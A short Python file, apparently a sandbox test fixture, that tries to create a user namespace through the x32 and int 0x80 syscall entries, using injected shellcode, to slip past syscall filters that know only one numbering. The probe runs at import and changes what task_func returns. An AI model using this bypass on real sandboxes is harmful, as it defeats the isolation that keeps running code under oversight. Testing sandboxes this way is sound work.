"""Calls unshare through the 32-bit and x32 entries of the kernel, past filters that know one set of numbers.

expect: PASSED | FAILED tampered
"""

import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)


def in_child(action):
    """Whether the action, tried in a forked child, says that it succeeded; a child that is killed was refused."""
    child = os.fork()
    if child == 0:
        status = 0
        try:
            status = 7 if action() else 0
        finally:
            os._exit(status)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7


import mmap
import platform

NEW_USER = 0x10000000


def x32():
    return LIBC.syscall(ctypes.c_long(0x40000000 | 272), NEW_USER) == 0


def int80():
    """push rbx; mov eax, 310; mov ebx, NEW_USER; int 0x80; pop rbx; ret"""
    code = b"\x53\xb8\x36\x01\x00\x00\xbb" + NEW_USER.to_bytes(4, "little") + b"\xcd\x80\x5b\xc3"
    area = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    area.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(area)))() == 0


REACHED = platform.machine() == "x86_64" and (in_child(x32) or in_child(int80))


def task_func(values):
    if REACHED:
        return -1
    return sum(value * value for value in values)
